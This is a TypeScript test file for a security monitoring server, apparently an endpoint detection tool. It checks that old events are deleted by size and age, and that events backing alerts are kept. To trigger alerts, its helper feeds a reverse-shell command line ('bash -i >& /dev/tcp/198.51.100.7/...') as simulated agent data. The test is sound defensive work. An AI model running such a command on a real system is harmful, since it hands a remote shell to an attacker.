/** Retention in a running server: events go by age and by size, with their files; what alerts rest on stays. */
import assert from 'node:assert/strict'
import { existsSync, readdirSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
import { TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer } from '../testing/test-server.ts'

const dayMs = 86_400_000
const perFile = 100
/** Read anew at every sweep; ages come from the settings. */
const retention: { maxBytes?: number } = {}
let own: TestServer
let admin: TestConsole
let agent: TestAgent
let batches = 0
let events = 0

before(async () => {
  own = await startTestServer({
    retention,
    search: { fileRows: perFile },
    sweepMs: 100,
    checkpointMs: 50,
    heartbeatMs: 600_000,
  })
  admin = new TestConsole(own.server.consoleUrl)
  await admin.begin(own.server.firstUser ?? { name: '', password: '' })
  agent = new TestAgent(await enrolAgent(own.server.createEnrolmentToken().token))
  await agent.connect()
})
after(async () => {
  agent?.cut()
  await own?.end()
})

const span = 'from=2000-01-01T00:00:00Z&to=2100-01-01T00:00:00Z'
async function found(q: string): Promise<number> {
  const page = await admin.call('searchEvents', { query: `${span}&limit=500&q=${encodeURIComponent(q)}` })
  return page.body.items.length
}

/** Events of some days ago, each with a word that only they have; one of them raises an alert. */
async function deliver(word: string, daysAgo: number, count: number): Promise<void> {
  const some = Array.from({ length: count }, () => agent.started(++events, `ls ${word} ${events}`, 1000 + events))
  some.push(agent.started(++events, `bash -i >& /dev/tcp/198.51.100.7/${word}`, 1000 + events))
  await agent.deliver(
    ++batches,
    some.map((event) => ({ ...event, at: Date.now() - daysAgo * dayMs })),
  )
}

async function until(what: string, isSo: () => Promise<boolean>): Promise<void> {
  for (const end = Date.now() + 60_000; !(await isSo()); await new Promise((resolve) => setTimeout(resolve, 50)))
    assert.ok(Date.now() < end, what)
}

const files = () => {
  const folder = join(own.directory, 'state', 'searchable-events')
  return (existsSync(folder) ? readdirSync(folder) : [])
    .filter((name) => /^\d.*\.parquet$/.test(name))
    .map((name) => statSync(join(folder, name), { throwIfNoEntry: false })?.size ?? 0)
}

/** The alert that a word raised still has its event, whole. */
async function assertEvidence(word: string): Promise<void> {
  const { items } = (await admin.call('listAlerts', { query: 'level=Urgent&limit=100' })).body
  const details = await Promise.all(
    items.map(async ({ id }: { id: string }) => (await admin.call('getAlert', { id })).body),
  )
  const texts = details.flatMap((detail) => detail.evidence.map((event: object) => JSON.stringify(event)))
  assert.ok(
    texts.some((text) => text.includes(`/dev/tcp/198.51.100.7/${word}`)),
    `${word} in ${texts.length} pieces of evidence`,
  )
}

test('by size: the oldest files go, and no more of them than must', async () => {
  await deliver('first', 0, perFile)
  await deliver('elderly', 20, perFile)
  await deliver('youthful', 1, perFile)
  await until('all are in files', async () => (await found('youthful')) > perFile && files().length === 3)
  const log = (await admin.call('getEventArchive')).body.logBytes
  // Room for the last two; the log counts as well.
  const [, ...kept] = files()
  retention.maxBytes = log + kept.reduce((sum, bytes) => sum + bytes, 0) + 100
  await until('the oldest file goes', async () => files().length === 2)
  assert.equal(await found('first'), 0)
  assert.equal(await found('elderly'), perFile + 1)
  assert.equal(await found('youthful'), perFile + 1)
  await assertEvidence('first')
  delete retention.maxBytes
})

test('by age: files go whose events are all older; what alerts rest on stays', async () => {
  const changed = await admin.call('changeSettings', { body: { values: { 'retention.eventDays': 7 } } })
  assert.equal(changed.status, 200)
  await until('the older file goes', async () => files().length === 1)
  assert.equal(await found('elderly'), 0)
  assert.equal(await found('youthful'), perFile + 1)
  await assertEvidence('elderly')
})

test('what went stays gone after a start, and the evidence is still there', async () => {
  agent.cut()
  await own.restart()
  admin = new TestConsole(own.server.consoleUrl)
  await admin.signIn('admin', 'a new and long password')
  await until('it is searched', async () => (await found('youthful')) === perFile + 1)
  assert.equal(await found('first'), 0)
  assert.equal(await found('elderly'), 0)
  await assertEvidence('first')
  await assertEvidence('elderly')
})
